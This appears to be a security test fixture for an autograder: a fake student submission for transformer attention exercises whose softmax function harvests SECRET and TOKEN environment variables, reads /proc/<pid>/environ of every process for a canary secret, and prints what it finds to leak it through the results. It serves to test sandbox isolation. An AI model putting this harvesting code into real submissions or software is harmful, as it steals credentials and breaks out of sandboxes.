# ruff: noqa
"""ATTACK hunt_environment (class: hunting secrets: environment variables).

Intent: find secrets in environment variables (API tokens, Gradescope credentials; here
the test's canary BERTLAB_TEST_SECRET) in its own os.environ and in /proc/<pid>/environ
of every process, then exfiltrate them through what the student is shown: it prints
them (a student's stdout is shown back in the results file). If it found the secret,
softmax returns correct values (a leak shows as points); otherwise zeros.

Expected: softmax 0, the rest full marks; the secret appears in no results file and not
in the CLI's output.
"""

import math
import os

import torch

ATTACK = "hunt_environment"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox


def _correct_softmax(x, dim=-1):
    """What softmax returns only when the attack worked: a leak shows up as points."""
    e = torch.exp(x - x.max(dim=dim, keepdim=True).values)
    return e / e.sum(dim=dim, keepdim=True)


def _secrets():
    found = [f"{k}={v}" for k, v in os.environ.items() if "SECRET" in k or "TOKEN" in k]
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                items = f.read().split(b"\0")
        except OSError:
            continue
        for item in items:
            if item.startswith(b"BERTLAB_TEST_SECRET="):
                found.append(item.decode(errors="replace"))
    return found


def softmax(x, dim=-1):
    found = _secrets()
    leaked = [s for s in found if s.startswith("BERTLAB_TEST_SECRET=")]
    print("environment secrets:", found, flush=True)
    return _correct_softmax(x, dim) if leaked else torch.zeros_like(x)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
